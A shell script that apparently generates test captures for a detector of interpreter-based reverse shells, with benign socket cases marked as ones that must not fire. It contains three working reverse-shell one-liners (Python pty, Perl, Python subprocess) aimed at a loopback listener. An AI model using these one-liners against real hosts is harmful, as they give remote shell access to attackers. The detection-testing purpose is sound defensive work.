# The capture of one-line reverse shells in script languages (capture-inline-code.log) and of
# interpreter connects that are not. Runs as root, from /; loopback only: the "attacker" is a listener
# on 127.0.0.1 that sends `exit` to each shell it gets.
set -x
echo 1000 > /proc/self/loginuid
mkdir -p /tmp/ic-capture
cd /tmp/ic-capture
cat > listen.py <<'P'
import socket
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 47011))
s.listen(4)
for _ in range(3):
    c, _ = s.accept()
    c.sendall(b"exit\n")
    c.recv(4096)
    c.close()
P
printf 'import socket\nsocket.socket().connect_ex(("127.0.0.1", 9))\n' > client.py
/usr/bin/python3 listen.py &                  # a script file binds (must not fire)
L=$!
sleep 1
# python: connect, the socket becomes the terminal of /bin/sh (fires at exec and at connect)
timeout 10 /usr/bin/python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",47011));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
# perl, the same (fires at exec and at connect)
timeout 10 perl -e 'use Socket;$i="127.0.0.1";$p=47011;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'
# a python that is not /usr/bin's (pyenv's), an option before -c (fires at exec and at connect)
timeout 10 /root/.pyenv/versions/3.11.7/bin/python3.11 -u -c 'import socket,subprocess;s=socket.socket();s.connect(("127.0.0.1",47011));subprocess.call(["/bin/sh","-i"],stdin=s,stdout=s,stderr=s)'
wait $L
/usr/bin/python3 client.py                    # a script file connects (must not fire)
/usr/bin/python3 client.py -c x               # -c after the script is its argument (must not fire)
/usr/bin/python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect_ex("/run/ic-none")'   # AF_UNIX (must not fire)
/usr/bin/python3 -c 'import socket; print(socket.gethostname() and "x")'   # names socket, opens none, runs no shell (must not fire)
/usr/bin/python3 -c 'import socket; socket.socket().connect_ex(("127.0.0.1", 9))'   # inline code connects, no shell: fires at connect only
cd /
rm -r /tmp/ic-capture
